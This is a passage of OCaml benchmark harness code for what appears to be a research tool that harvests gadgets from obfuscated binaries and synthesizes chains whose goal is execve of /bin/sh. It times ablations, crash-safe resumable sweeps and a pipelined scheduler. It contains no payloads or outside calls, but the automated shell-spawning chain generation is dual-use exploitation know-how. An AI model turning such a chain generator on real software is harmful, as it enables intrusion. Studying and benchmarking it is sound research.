      (List.map2
         (fun (r, t, ts) (_, t', ts') -> (r, min t t', min ts ts')))
      (List.hd sweeps) (List.tl sweeps)
  in
  (* snapshot per on-sweep: [reset_world] zeroes the tallies and the
     last sweep of a rep pair may be an off-sweep *)
  let counters = ref (0, 0, 0) in
  let pairs =
    times reps (fun i ->
        let sweep_on () =
          let n = sweep true in
          let h, m = Gp_core.Incr.fp_store_stats () in
          counters := (h, m, Gp_smt.Fpeval.refutations ());
          n
        in
        if i mod 2 = 0 then
          let o = sweep false in
          let n = sweep_on () in
          (o, n)
        else
          let n = sweep_on () in
          let o = sweep false in
          (o, n))
  in
  let off = best (List.map fst pairs) in
  let on = best (List.map snd pairs) in
  let counters = !counters in
  let rows =
    List.map2
      (fun (prog, cname, _) ((r_off, t_off, ts_off), (r_on, t_on, ts_on)) ->
        { fr_program = prog;
          fr_config = cname;
          fr_off_s = t_off;
          fr_on_s = t_on;
          fr_off_solver_s = ts_off;
          fr_on_solver_s = ts_on;
          fr_chains =
            (let _, os = r_on in
             List.fold_left
               (fun acc (o : Gp_core.Api.outcome) ->
                 acc + List.length o.Gp_core.Api.chains)
               0 os);
          fr_agree = cell_fingerprint r_off = cell_fingerprint r_on })
      cells
      (List.combine off on)
  in
  let total sel cfg_filter =
    List.fold_left
      (fun acc r -> if cfg_filter r.fr_config then acc +. sel r else acc)
      0. rows
  in
  let any _ = true and obf c = c <> "original" in
  let off_total = total (fun r -> r.fr_off_s) any in
  let on_total = total (fun r -> r.fr_on_s) any in
  let obf_speedup =
    total (fun r -> r.fr_off_solver_s) obf
    /. max 1e-9 (total (fun r -> r.fr_on_solver_s) obf)
  in
  let obf_speedup_end_to_end =
    total (fun r -> r.fr_off_s) obf
    /. max 1e-9 (total (fun r -> r.fr_on_s) obf)
  in
  fp_json (out_path out) ~jobs ~reps ~rows ~off_total ~on_total ~obf_speedup
    ~obf_speedup_end_to_end ~counters;
  let fh, fm, frf = counters in
  let t =
    Table.create
      ~title:
        (Printf.sprintf
           "Semantic fingerprint index: off vs on (jobs=%d, %d core(s))"
           jobs (Gp_util.Par.available ()))
      ~header:
        [ "program"; "config"; "off (s)"; "on (s)"; "off solver";
          "on solver"; "speedup"; "chains"; "agree" ]
  in
  List.iter
    (fun r ->
      Table.add_row t
        [ r.fr_program; r.fr_config;
          Printf.sprintf "%.3f" r.fr_off_s;
          Printf.sprintf "%.3f" r.fr_on_s;
          Printf.sprintf "%.3f" r.fr_off_solver_s;
          Printf.sprintf "%.3f" r.fr_on_solver_s;
          Printf.sprintf "%.2fx"
            (r.fr_off_solver_s /. max 1e-9 r.fr_on_solver_s);
          string_of_int r.fr_chains;
          (if r.fr_agree then "yes" else "NO") ])
    rows;
  Table.add_row t
    [ "TOTAL"; "-";
      Printf.sprintf "%.3f" off_total;
      Printf.sprintf "%.3f" on_total;
      Printf.sprintf "%.3f" (total (fun r -> r.fr_off_solver_s) any);
      Printf.sprintf "%.3f" (total (fun r -> r.fr_on_solver_s) any);
      Printf.sprintf "%.2fx"
        (total (fun r -> r.fr_off_solver_s) any
        /. max 1e-9 (total (fun r -> r.fr_on_solver_s) any));
      "-"; "-" ];
  let txt =
    Table.render t
    ^ Printf.sprintf
        "obfuscated-config solver-stage speedup: %.2fx (end to end \
         %.2fx); fingerprints: %d store hits / %d misses, %d probes \
         refuted; wrote %s\n"
        obf_speedup obf_speedup_end_to_end fh fm frf out
  in
  (txt, rows)

(* ---------- ablations (DESIGN.md §5) ---------- *)

let ablation_unaligned () =
  let t =
    Table.create ~title:"Ablation: unaligned decoding"
      ~header:[ "program"; "aligned-only"; "unaligned"; "gain" ]
  in
  List.iter
    (fun entry ->
      let image =
        Gp_codegen.Pipeline.compile ~transform:(Gp_obf.Obf.transform Gp_obf.Obf.ollvm)
          entry.Gp_corpus.Programs.source
      in
      let census unaligned =
        { Gp_core.Extract.default_config with
          Gp_core.Extract.unaligned; max_insns = 24 }
      in
      let aligned =
        List.length (Gp_core.Extract.raw_scan ~config:(census false) image)
      in
      let unaligned =
        List.length (Gp_core.Extract.raw_scan ~config:(census true) image)
      in
      Table.add_row t
        [ entry.Gp_corpus.Programs.name; string_of_int aligned;
          string_of_int unaligned;
          Printf.sprintf "%.1fx" (float_of_int unaligned /. float_of_int (max 1 aligned)) ])
    (benchmark_entries ~quick:true);
  Table.render t

let ablation_subsumption () =
  let t =
    Table.create ~title:"Ablation: subsumption testing (pool reduction)"
      ~header:[ "program"; "harvested"; "deduped"; "subsumed"; "reduction" ]
  in
  List.iter
    (fun entry ->
      let image =
        Gp_codegen.Pipeline.compile ~transform:(Gp_obf.Obf.transform Gp_obf.Obf.ollvm)
          entry.Gp_corpus.Programs.source
      in
      let harvested = Gp_core.Extract.harvest image in
      let _, stats = Gp_core.Subsume.minimize harvested in
      Table.add_row t
        [ entry.Gp_corpus.Programs.name;
          string_of_int stats.Gp_core.Subsume.input;
          string_of_int stats.Gp_core.Subsume.after_dedup;
          string_of_int stats.Gp_core.Subsume.after_subsume;
          Printf.sprintf "%.2fx"
            (float_of_int stats.Gp_core.Subsume.input
            /. float_of_int (max 1 stats.Gp_core.Subsume.after_subsume)) ])
    (benchmark_entries ~quick:true);
  Table.render t

(* gadget-count stability across obfuscation seeds *)
let ablation_seeds () =
  let t =
    Table.create ~title:"Ablation: obfuscation seed variance (llvm-obf preset)"
      ~header:[ "program"; "min"; "mean"; "max" ]
  in
  List.iter
    (fun entry ->
      let counts =
        List.map
          (fun seed ->
            let cfg = Gp_obf.Obf.config ~seed Gp_obf.Obf.ollvm.Gp_obf.Obf.passes in
            let image =
              Gp_codegen.Pipeline.compile ~transform:(Gp_obf.Obf.transform cfg)
                entry.Gp_corpus.Programs.source
            in
            List.length (Gp_core.Extract.raw_scan image))
          [ 1; 2; 3; 4; 5 ]
      in
      let mn = List.fold_left min max_int counts in
      let mx = List.fold_left max 0 counts in
      let mean = List.fold_left ( + ) 0 counts / List.length counts in
      Table.add_row t
        [ entry.Gp_corpus.Programs.name; string_of_int mn; string_of_int mean;
          string_of_int mx ])
    (benchmark_entries ~quick:true);
  Table.render t

let ablation_condjump () =
  let t =
    Table.create
      ~title:"Ablation: conditional/merged gadgets excluded from the pool"
      ~header:[ "program"; "full pool"; "chains"; "restricted pool"; "chains" ]
  in
  List.iter
    (fun entry ->
      let b =
        Workspace.build ~config_name:"tigress" ~cfg:Gp_obf.Obf.tigress entry
      in
      let goal = Gp_core.Goal.Execve "/bin/sh" in
      let full = Workspace.run_gp b goal in
      let restricted_gadgets =
        List.filter
          (fun (g : Gp_core.Gadget.t) ->
            (not g.Gp_core.Gadget.has_cond) && not g.Gp_core.Gadget.has_merge)
          b.Workspace.analysis.Gp_core.Api.gadgets
      in
      let restricted_analysis =
        { b.Workspace.analysis with
          Gp_core.Api.gadgets = restricted_gadgets;
          pool = Gp_core.Pool.build restricted_gadgets }
      in
      let restr =
        Gp_core.Api.run_with_analysis ~planner_config:Workspace.gp_planner_config
          restricted_analysis goal
      in
      Table.add_row t
        [ entry.Gp_corpus.Programs.name;
          string_of_int (List.length b.Workspace.analysis.Gp_core.Api.gadgets);
          string_of_int (List.length full.Gp_core.Api.chains);
          string_of_int (List.length restricted_gadgets);
          string_of_int (List.length restr.Gp_core.Api.chains) ])
    (benchmark_entries ~quick:true);
  Table.render t

(* ---------- crash-safe resumable sweeps (DESIGN.md §13) ---------- *)

(* One survey cell's result, reduced to exactly the data that must be
   invariant across job counts, cache temperature, AND
   interrupt/resume: the chains, the pool, the deterministic
   planner/validator tallies, and the degradation rungs.  This is the
   payload the checkpoint manifest records, so "resume ≡ uninterrupted"
   is checked byte-for-byte on the encoded form. *)
type resume_payload = {
  rp_program : string;
  rp_config : string;
  rp_pool : int;
  rp_chains : string list;           (* Payload.chain_set_key per chain *)
  rp_rungs : string list;            (* degradation rungs attempted *)
  rp_counters : (string * int) list; (* jobs/temperature-invariant tallies *)
}

let resume_payload_encode p =
  let b = Buffer.create 256 in
  let module B = Gp_util.Store.Bin in
  B.str b p.rp_program;
  B.str b p.rp_config;
  B.int_ b p.rp_pool;
  B.int_ b (List.length p.rp_chains);
  List.iter (B.str b) p.rp_chains;
  B.int_ b (List.length p.rp_rungs);
  List.iter (B.str b) p.rp_rungs;
  B.int_ b (List.length p.rp_counters);
  List.iter
    (fun (k, v) ->
      B.str b k;
      B.int_ b v)
    p.rp_counters;
  Buffer.contents b

let resume_payload_decode s =
  let module B = Gp_util.Store.Bin in
  let pos = ref 0 in
  let rp_program = B.gstr s pos in
  let rp_config = B.gstr s pos in
  let rp_pool = B.gint s pos in
  let rp_chains = List.init (B.gint s pos) (fun _ -> B.gstr s pos) in
  let rp_rungs = List.init (B.gint s pos) (fun _ -> B.gstr s pos) in
  let rp_counters =
    List.init (B.gint s pos) (fun _ ->
        let k = B.gstr s pos in
        (k, B.gint s pos))
  in
  { rp_program; rp_config; rp_pool; rp_chains; rp_rungs; rp_counters }

(* The deterministic tallies, by the same selection discipline as
   [plan_fingerprint]; cache/summary-hit counters are temperature-
   dependent and excluded, as are the store quarantine labels (a
   resumed run legitimately differs there). *)
let resume_counters (o : Gp_core.Api.outcome) =
  let st = o.Gp_core.Api.stats in
  [ ("plans_found", st.Gp_core.Api.plans_found);
    ("chains_built", st.Gp_core.Api.chains_built);
    ("chains_validated", st.Gp_core.Api.chains_validated);
    ("plan_expanded", st.Gp_core.Api.plan_expanded);
    ("plan_peak_queue", st.Gp_core.Api.plan_peak_queue);
    ("plan_inst_hits", st.Gp_core.Api.plan_inst_hits);
    ("plan_cand_hits", st.Gp_core.Api.plan_cand_hits);
    ("plan_discarded", st.Gp_core.Api.plan_discarded);
    ("validate_faults", st.Gp_core.Api.validate_faults);
    ("validate_timeouts", st.Gp_core.Api.validate_timeouts) ]
  @ List.filter_map
      (fun (l, n) ->
        if l = "store" || l = "store-locked" || l = "wal-torn" then None
        else Some ("q:" ^ l, n))
      st.Gp_core.Api.quarantined

let resume_cell_key prog cname = prog ^ "/" ^ cname

(* Build the runner-shaped cell list for a survey sweep: each cell
   compiles, analyzes, and plans one (program, config) pair, firing
   the "mid-stage" crash point between the two pipeline halves.  The
   per-cell [cache_dir] is deliberately absent: under a journal the
   store was merged at [journal_open] and summaries stream to the WAL
   through [Incr.add]; in atomic mode the caller brackets the sweep
   with one load/save. *)
let resume_cell_fns ?entries ?configs ?(quick = true) ~jobs ~goal () :
    (string * (attempt:int -> Gp_core.Budget.t ->
               (resume_payload, Gp_core.Fail.t) result))
    list =
  let planner_config =
    { Gp_core.Planner.default_config with
      Gp_core.Planner.node_budget = 1200; max_plans = 6 }
  in
  survey_cells ?entries ?configs ~quick (fun entry cname cfg ->
      let prog = entry.Gp_corpus.Programs.name in
      ( resume_cell_key prog cname,
        fun ~attempt:_ budget ->
          let image =
            Gp_codegen.Pipeline.compile
              ~transform:(Gp_obf.Obf.transform cfg)
              entry.Gp_corpus.Programs.source
          in
          Gp_core.Gadget.reset_ids ();
          let a = Gp_core.Api.analyze ~budget ~jobs image in
          Gp_util.Store.crash_point "mid-stage";
          let o =
            Gp_core.Api.run_with_analysis ~planner_config ~budget ~jobs a goal
          in
          Ok
            { rp_program = prog;
              rp_config = cname;
              rp_pool = Gp_core.Pool.size a.Gp_core.Api.pool;
              rp_chains =
                List.map Gp_core.Payload.chain_set_key o.Gp_core.Api.chains;
              rp_rungs = List.map Gp_core.Api.rung_name o.Gp_core.Api.rungs;
              rp_counters = resume_counters o } ))

(* One journaled, checkpointed sweep over [cells] in [dir]: open the
   store journal and the cell manifest, run the corpus (replaying
   completed cells when [resume]), then compact and close.  Returns
   the outcomes, the runner report, and the journal-open info. *)
let resume_sweep ?(policy = Runner.default_policy) ~dir ~resume cells =
  let jo = Gp_core.Incr.journal_open ~dir in
  let m = Runner.Manifest.open_ ~dir in
  match
    Runner.run_corpus ~policy ~manifest:m ~resume
      ~encode:resume_payload_encode ~decode:resume_payload_decode cells
  with
  | outcomes, report ->
    if Gp_core.Incr.journaling () then ignore (Gp_core.Incr.journal_close ());
    Runner.Manifest.close m;
    (outcomes, report, jo)
  | exception e ->
    (* simulated process death (or any real abort): drop fds WITHOUT
       flushing — a normal close here would complete the very writes
       the crash is supposed to have torn *)
    Gp_core.Incr.journal_abandon ();
    Runner.Manifest.abandon m;
    raise e

let resume_json path ~jobs ~t_atomic ~t_wal ~overhead ~rows ~all_identical
    ~jobs_invariant =
  let oc = open_out path in
  let p fmt = Printf.fprintf oc fmt in
  p "{\n";
  json_provenance oc ~experiment:"resume";
  p "  \"jobs\": %d,\n" jobs;
  p "  \"cores\": %d,\n" (Gp_util.Par.available ());
  p "  \"note\": \"crash-safe resumable sweeps (DESIGN.md section 13).  \
     overhead compares a warm survey sweep persisting through the \
     write-ahead journal (per-summary WAL appends + per-cell fsync'd \
     checkpoints + final compaction) against the same sweep with one \
     atomic save at the end.  Each crash row kills the sweep at an \
     injected durability point (hits-th firing), then resumes from \
     the WAL + cell manifest in a fresh world: completed_before cells \
     replay from the checkpoint, the rest recompute, and 'identical' \
     asserts the resumed sweep's encoded payloads equal the \
     uninterrupted reference byte for byte.\",\n";
  p "  \"wal_overhead\": %.4f,\n" overhead;
  p "  \"t_atomic_s\": %.4f,\n" t_atomic;
  p "  \"t_wal_s\": %.4f,\n" t_wal;
  p "  \"jobs_invariant\": %b,\n" jobs_invariant;
  p "  \"all_identical\": %b,\n" all_identical;
  p "  \"rows\": [\n";
  List.iteri
    (fun i (point, j, hits, crashed, completed, total, resumed, recomputed,
            retries, wal_replayed, wal_torn, recovery_s, identical) ->
      p "    { \"point\": %S, \"jobs\": %d, \"hits\": %d, \"crashed\": %b, \
         \"completed_before\": %d, \"total\": %d, \"resumed\": %d, \
         \"recomputed\": %d, \"retries\": %d, \"wal_replayed\": %d, \
         \"wal_torn_bytes\": %d, \"recovery_s\": %.4f, \
         \"recovered_fraction\": %.3f, \"identical\": %b }%s\n"
        point j hits crashed completed total resumed recomputed retries
        wal_replayed wal_torn recovery_s
        (float_of_int resumed /. float_of_int (max 1 total))
        identical
        (if i = List.length rows - 1 then "" else ","))
    rows;
  p "  ]\n";
  p "}\n";
  close_out oc

let resume ?(quick = true) ?(jobs = 4) ?(cache_root = ".gp-cache/resume")
    ?(out = "BENCH_resume.json") () =
  let goal = Gp_core.Goal.Execve "/bin/sh" in
  (* two programs x all configs keeps the many-sweep matrix inside
     bench-suite time; full mode widens to the quick benchmark set *)
  let entries =
    if !smoke_mode then None
    else if quick then
      Some (List.map Gp_corpus.Programs.find [ "fibonacci"; "bubble_sort" ])
    else Some (List.map Gp_corpus.Programs.find quick_benchmark_names)
  in
  let cells ~jobs = resume_cell_fns ?entries ~quick ~jobs ~goal () in
  let jobs_list = if !smoke_mode then [ 1 ] else [ 1; jobs ] in
  rm_rf cache_root;
  (* --- uninterrupted references, one per job count --- *)
  let payloads outcomes =
    List.map
      (fun (c : resume_payload Runner.cell_outcome) ->
        match c.Runner.c_result with
        | Ok p -> (c.Runner.c_key, resume_payload_encode p)
        | Error f -> (c.Runner.c_key, "FAIL:" ^ Gp_core.Fail.label f))
      outcomes
  in
  (* count wal-append firings during the reference so crash indices can
     land mid-sweep deterministically *)
  let append_fires = ref 0 in
  let reference =
    List.map
      (fun j ->
        let dir = Filename.concat cache_root (Printf.sprintf "ref-%d" j) in
        reset_world ();
        let saved = !Gp_util.Store.crash_hook in
        Gp_util.Store.crash_hook :=
          (fun p -> if p = "wal-append" then append_fires := !append_fires + 1);
        let r =
          Fun.protect
            ~finally:(fun () -> Gp_util.Store.crash_hook := saved)
            (fun () -> resume_sweep ~dir ~resume:false (cells ~jobs:j))
        in
        let outcomes, _, _ = r in
        (j, payloads outcomes))
      jobs_list
  in
  let ref_for j = List.assoc j reference in
  let jobs_invariant =
    match reference with
    | (_, first) :: rest ->
      List.for_all (fun (_, p) -> List.map snd p = List.map snd first) rest
    | [] -> true
  in
  (* --- WAL overhead vs atomic save, warm sweep --- *)
  let warm_dir = Filename.concat cache_root "warm" in
  reset_world ();
  ignore (resume_sweep ~dir:warm_dir ~resume:false (cells ~jobs));
  (* manifest from the priming run must not short-circuit the timed
     sweeps: they measure recompute + persistence, not replay *)
  (try Sys.remove (Runner.Manifest.wal_path ~dir:warm_dir)
   with Sys_error _ -> ());
  reset_world ();
  let (), t_atomic =
    Gp_core.Api.timed (fun () ->
        ignore (Gp_core.Incr.load ~dir:warm_dir);
        ignore
          (Runner.run_corpus ~encode:resume_payload_encode
             ~decode:resume_payload_decode (cells ~jobs));
        match Gp_core.Incr.save ~dir:warm_dir with Ok () | Error _ -> ())
  in
  (try Sys.remove (Runner.Manifest.wal_path ~dir:warm_dir)
   with Sys_error _ -> ());
  reset_world ();
  let (), t_wal =
    Gp_core.Api.timed (fun () ->
        ignore (resume_sweep ~dir:warm_dir ~resume:false (cells ~jobs)))
  in
  let overhead = (t_wal /. Float.max 1e-9 t_atomic) -. 1. in
  (* --- crash injection x resume differential --- *)
  let points =
    [ ("wal-append", max 1 (!append_fires / (2 * List.length jobs_list)));
      ("save-rename", 1);
      ("mid-stage", if !smoke_mode then 1 else 2) ]
  in
  let rows =
    List.concat_map
      (fun (point, hits) ->
        List.map
          (fun j ->
            let dir =
              Filename.concat cache_root (Printf.sprintf "%s-%d" point j)
            in
            reset_world ();
            let crashed =
              match
                Faultsim.with_crash_at ~hits ~point (fun () ->
                    resume_sweep ~dir ~resume:false (cells ~jobs:j))
              with
              | Error _ -> true (* resume_sweep already abandoned the fds *)
              | Ok _ -> false
            in
            reset_world ();
            let (outcomes, report, jo), recovery_s =
              Gp_core.Api.timed (fun () ->
                  resume_sweep ~dir ~resume:true (cells ~jobs:j))
            in
            let wal_replayed, wal_torn =
              match jo.Gp_core.Incr.jo_status with
              | Gp_core.Incr.Loaded li ->
                (li.Gp_core.Incr.li_wal_replayed,
                 li.Gp_core.Incr.li_wal_truncated)
              | _ -> (0, 0)
            in
            let identical = payloads outcomes = ref_for j in
            ( point, j, hits, crashed, report.Runner.r_resumed,
              report.Runner.r_total, report.Runner.r_resumed,
              report.Runner.r_computed, report.Runner.r_retries,
              wal_replayed, wal_torn, recovery_s, identical ))
          jobs_list)
      points
  in
  let all_identical =
    List.for_all
      (fun (_, _, _, _, _, _, _, _, _, _, _, _, id) -> id)
      rows
  in
  let t =
    Table.create ~title:"Crash-safe resumable sweeps (DESIGN.md §13)"
      ~header:
        [ "point"; "jobs"; "crashed"; "resumed"; "recomputed"; "total";
          "recovery(s)"; "identical" ]
  in
  List.iter
    (fun (point, j, _, crashed, _, total, resumed, recomputed, _, _, _,
          recovery_s, identical) ->
      Table.add_row t
        [ point; string_of_int j;
          (if crashed then "yes" else "no");
          string_of_int resumed; string_of_int recomputed;
          string_of_int total; Printf.sprintf "%.2f" recovery_s;
          (if identical then "yes" else "NO") ])
    rows;
  let body =
    Table.render t
    ^ Printf.sprintf
        "\nWAL overhead vs atomic save (warm sweep): %.1f%% (wal %.2fs, \
         atomic %.2fs)\njobs-invariant: %b   all resumes identical: %b\n"
        (overhead *. 100.) t_wal t_atomic jobs_invariant all_identical
  in
  resume_json (out_path out) ~jobs ~t_atomic ~t_wal ~overhead ~rows
    ~all_identical ~jobs_invariant;
  (body, (overhead, rows, all_identical, jobs_invariant))

(* ---------- whole-corpus pipelined sweeps (DESIGN.md §14) ---------- *)

(* Kill switch for the `--no-sweep` ablation: when false, scheduler
   entry points fall back to driving the same staged cells to
   completion sequentially, so an ablated run exercises identical cell
   code through the legacy corpus loop. *)
let sched_enabled = ref true
let set_sched b = sched_enabled := b

(* The resume-sweep cell bodies re-cut along the Api stage seams, so
   the scheduler can interleave one cell's plan stage with another's
   extract.  Cell-for-cell equivalent to [resume_cell_fns ~jobs:1]:
   same compile, same budget threading (both stages draw from the one
   per-attempt root), same "mid-stage" crash point between the pipeline
   halves, same payload.  Gadget ids come from a per-cell local source
   — exactly the sequence [Gadget.reset_ids ()] + the global source
   yields — so concurrent cells cannot interleave draws. *)
let sweep_cell_steps ?entries ?configs ?(quick = true) ~goal () :
    (string * (attempt:int -> Gp_core.Budget.t -> resume_payload Sched.step))
    list =
  let planner_config =
    { Gp_core.Planner.default_config with
      Gp_core.Planner.node_budget = 1200; max_plans = 6 }
  in
  survey_cells ?entries ?configs ~quick (fun entry cname cfg ->
      let prog = entry.Gp_corpus.Programs.name in
      ( resume_cell_key prog cname,
        fun ~attempt:_ budget ->
          Sched.Next
            ( "extract",
              fun () ->
                let image =
                  Gp_codegen.Pipeline.compile
                    ~transform:(Gp_obf.Obf.transform cfg)
                    entry.Gp_corpus.Programs.source
                in
                let ex =
                  Gp_core.Api.stage_extract ~budget ~jobs:1
                    ~ids:(Gp_core.Gadget.local_ids ()) image
                in
                Sched.Next
                  ( "subsume",
                    fun () ->
                      let a, _raw =
                        Gp_core.Api.stage_subsume ~budget ~jobs:1 ex
                      in
                      Gp_util.Store.crash_point "mid-stage";
                      Sched.Next
                        ( "plan",
                          fun () ->
                            let p =
                              Gp_core.Api.stage_plan ~planner_config ~budget
                                ~jobs:1 a goal
                            in
                            Sched.Next
                              ( "validate",
                                fun () ->
                                  let o = Gp_core.Api.stage_finalize p in
                                  Sched.Finished
                                    (Ok
                                       { rp_program = prog;
                                         rp_config = cname;
                                         rp_pool =
                                           Gp_core.Pool.size
                                             a.Gp_core.Api.pool;
                                         rp_chains =
                                           List.map
                                             Gp_core.Payload.chain_set_key
                                             o.Gp_core.Api.chains;
                                         rp_rungs =
                                           List.map Gp_core.Api.rung_name
                                             o.Gp_core.Api.rungs;
                                         rp_counters = resume_counters o }) )
                        ) ) ) ))

(* Drive one staged cell to completion inline: the sequential
   equivalent of what the scheduler does node by node.  Turns a staged
   cell into a [Runner.run_corpus]-shaped one for the `--no-sweep`
   ablation path. *)
let rec sweep_step_drive = function
  | Sched.Finished r -> r
  | Sched.Next (_, k) -> sweep_step_drive (k ())

let sweep_cells_sequential cells =
  List.map
    (fun (key, sc) ->
      (key, fun ~attempt b -> sweep_step_drive (sc ~attempt b)))
    cells

(* [resume_sweep]'s journaled checkpointed bracket around the
   scheduler: same open/close/abandon discipline, the corpus executed
   as a cell x stage DAG on [jobs] workers (or sequentially when the
   scheduler is ablated). *)
let sched_sweep ?(policy = Runner.default_policy) ~dir ~resume ~jobs cells =
  let jo = Gp_core.Incr.journal_open ~dir in
  let m = Runner.Manifest.open_ ~dir in
  match
    if !sched_enabled then
      Sched.run_cells ~policy ~manifest:m ~resume
        ~encode:resume_payload_encode ~decode:resume_payload_decode ~jobs
        cells
    else
      Runner.run_corpus ~policy ~manifest:m ~resume
        ~encode:resume_payload_encode ~decode:resume_payload_decode
        (sweep_cells_sequential cells)
  with
  | outcomes, report ->
    if Gp_core.Incr.journaling () then ignore (Gp_core.Incr.journal_close ());
    Runner.Manifest.close m;
    (outcomes, report, jo)
  | exception e ->
    Gp_core.Incr.journal_abandon ();
    Runner.Manifest.abandon m;
    raise e

let sweep_json path ~jobs ~rows ~obf ~sched_overhead ~all_identical
    ~ablated =
  let oc = open_out path in
  let p fmt = Printf.fprintf oc fmt in
  p "{\n";
  json_provenance oc ~experiment:"sweep";
  p "  \"jobs\": %d,\n" jobs;
  p "  \"cores\": %d,\n" (Gp_util.Par.available ());
  p "  \"ablated\": %b,\n" ablated;
  p "  \"note\": \"whole-corpus pipelined scheduler (DESIGN.md section \
     14).  Each row times the same survey sweep two ways: 'seq' is the \
     sequential cell loop (Runner.run_corpus, within-cell parallelism \
     at the row's job count), 'dag' is the cell x stage DAG on a \
     work-stealing pool of that many workers (cells internally \
     single-threaded).  'identical' asserts the DAG sweep's encoded \
     cell payloads equal the sequential reference byte for byte.  \
     sched_overhead is the jobs=1 DAG wall-clock over the jobs=1 \
     sequential loop, minus one: pure scheduler bookkeeping, no \
     parallelism in play.  The obf block repeats the comparison on the \
     obfuscated configs only.  Speedups are honest wall-clock ratios \
     on THIS host; with fewer cores than workers the pool is \
     timesliced and pipelining cannot beat the loop — see the cores \
     field before reading the ratios.\",\n";
  p "  \"sched_overhead\": %.4f,\n" sched_overhead;
  p "  \"all_identical\": %b,\n" all_identical;
  (match obf with
  | None -> ()
  | Some (t_seq, t_dag, identical) ->
    p "  \"obf_seq_s\": %.4f,\n" t_seq;
    p "  \"obf_dag_s\": %.4f,\n" t_dag;
    p "  \"obf_speedup\": %.3f,\n" (t_seq /. Float.max 1e-9 t_dag);
    p "  \"obf_identical\": %b,\n" identical);
  p "  \"rows\": [\n";
  List.iteri
    (fun i (j, t_seq, t_dag, identical) ->
      p "    { \"jobs\": %d, \"seq_s\": %.4f, \"dag_s\": %.4f, \
         \"speedup\": %.3f, \"identical\": %b }%s\n"
        j t_seq t_dag
        (t_seq /. Float.max 1e-9 t_dag)
        identical
        (if i = List.length rows - 1 then "" else ","))
    rows;
  p "  ]\n";
  p "}\n";
  close_out oc

let sweep ?(quick = true) ?(jobs = 4) ?(out = "BENCH_sweep.json") () =
  let goal = Gp_core.Goal.Execve "/bin/sh" in
  let entries =
    if !smoke_mode then None
    else if quick then
      Some (List.map Gp_corpus.Programs.find [ "fibonacci"; "bubble_sort" ])
    else Some (List.map Gp_corpus.Programs.find quick_benchmark_names)
  in
  let jobs_list = if !smoke_mode then [ 1 ] else [ 1; jobs ] in
  let payloads outcomes =
    List.map
      (fun (c : resume_payload Runner.cell_outcome) ->
        match c.Runner.c_result with
        | Ok p -> (c.Runner.c_key, resume_payload_encode p)
        | Error f -> (c.Runner.c_key, "FAIL:" ^ Gp_core.Fail.label f))
      outcomes
  in
  let seq_sweep ?configs ~jobs () =
    reset_world ();
    let cells = resume_cell_fns ?entries ?configs ~quick ~jobs ~goal () in
    Gp_core.Api.timed (fun () ->
        let outcomes, _ =
          Runner.run_corpus ~encode:resume_payload_encode
            ~decode:resume_payload_decode cells
        in
        payloads outcomes)
  in
  let dag_sweep ?configs ~jobs () =
    reset_world ();
    let cells = sweep_cell_steps ?entries ?configs ~quick ~goal () in
    Gp_core.Api.timed (fun () ->
        let outcomes, _ =
          if !sched_enabled then
            Sched.run_cells ~encode:resume_payload_encode
              ~decode:resume_payload_decode ~jobs cells
          else
            Runner.run_corpus ~encode:resume_payload_encode
              ~decode:resume_payload_decode (sweep_cells_sequential cells)
        in
        payloads outcomes)
  in
  (* one untimed warmup pass so neither contender pays first-run costs *)
  ignore (seq_sweep ~jobs:1 ());
  let reference, _ = seq_sweep ~jobs:1 () in
  let rows =
    List.map
      (fun j ->
        let seq_p, t_seq = seq_sweep ~jobs:j () in
        let dag_p, t_dag = dag_sweep ~jobs:j () in
        let identical = dag_p = reference && seq_p = reference in
        (j, t_seq, t_dag, identical))
      jobs_list
  in
  let sched_overhead =
    match rows with
    | (1, t_seq1, t_dag1, _) :: _ -> (t_dag1 /. Float.max 1e-9 t_seq1) -. 1.
    | _ -> 0.
  in
  (* the paper-relevant subset: obfuscated configs only, where cells
     are slow and stage-imbalanced — the case pipelining targets *)
  let obf =
    if !smoke_mode then None
    else begin
      let configs =
        List.filter (fun (n, _) -> n <> "original") Workspace.obf_configs
      in
      let oref, t_seq = seq_sweep ~configs ~jobs () in
      let odag, t_dag = dag_sweep ~configs ~jobs () in
      Some (t_seq, t_dag, odag = oref)
    end
  in
  let all_identical =
    List.for_all (fun (_, _, _, id) -> id) rows
    && match obf with Some (_, _, id) -> id | None -> true
  in
  let t =
    Table.create ~title:"Pipelined corpus scheduler (DESIGN.md §14)"
      ~header:[ "jobs"; "seq(s)"; "dag(s)"; "speedup"; "identical" ]
  in
  List.iter
    (fun (j, t_seq, t_dag, identical) ->
      Table.add_row t
        [ string_of_int j; Printf.sprintf "%.2f" t_seq;
          Printf.sprintf "%.2f" t_dag;
          Printf.sprintf "%.2fx" (t_seq /. Float.max 1e-9 t_dag);
          (if identical then "yes" else "NO") ])
    rows;
  let body =
    Table.render t
    ^ Printf.sprintf
        "\nscheduler overhead (jobs=1 dag vs loop): %.1f%%   cores: %d%s\n\
         all payloads identical: %b%s\n"
        (sched_overhead *. 100.)
        (Gp_util.Par.available ())
        (match obf with
        | Some (ts, td, _) ->
          Printf.sprintf "   obf-only at jobs=%d: %.2fx" jobs
            (ts /. Float.max 1e-9 td)
        | None -> "")
        all_identical
        (if !sched_enabled then "" else "   (--no-sweep: scheduler ablated)")
  in
  sweep_json (out_path out) ~jobs ~rows ~obf ~sched_overhead ~all_identical
    ~ablated:(not !sched_enabled);
  (body, (rows, sched_overhead, all_identical))

(* ---------- analysis-as-a-service (DESIGN.md §15) ---------- *)

(* Sustained request throughput and latency, cold process-per-request
   vs the resident daemon, over a shuffled replay of the survey corpus.

   The cold model runs each request inline after [reset_world] — a
   fresh process's cache state without its exec/link/store-load cost,
   so the measured resident speedup is a LOWER bound on the real
   process-per-request comparison.  The replay visits every survey
   cell twice in a fixed shuffled order: re-analysis of content the
   daemon has seen is precisely the workload a resident cache serves.

   Every daemon reply is diffed (encoded report bytes) against the
   cold reference — the speedup claim is only meaningful if the
   resident answers are bit-identical. *)

let serve_requests ?configs ?entries ~quick () =
  survey_cells ?configs ?entries ~quick (fun e cname cfg ->
      let image =
        Gp_codegen.Pipeline.compile ~transform:(Gp_obf.Obf.transform cfg)
          e.Gp_corpus.Programs.source
      in
      ( e.Gp_corpus.Programs.name ^ "/" ^ cname,
        { (Serve.default_request image) with
          Serve.rq_max_plans = 6;
          rq_node_budget = 1200 } ))

(* Fixed-seed Fisher-Yates: the replay order is part of the experiment
   definition, identical on every run. *)
let shuffled_replay ?(seed = 0x5e7) ~copies requests =
  let a = Array.of_list (List.concat (List.init copies (fun _ -> requests))) in
  let r = Gp_util.Rng.create seed in
  for i = Array.length a - 1 downto 1 do
    let j = Gp_util.Rng.int r (i + 1) in
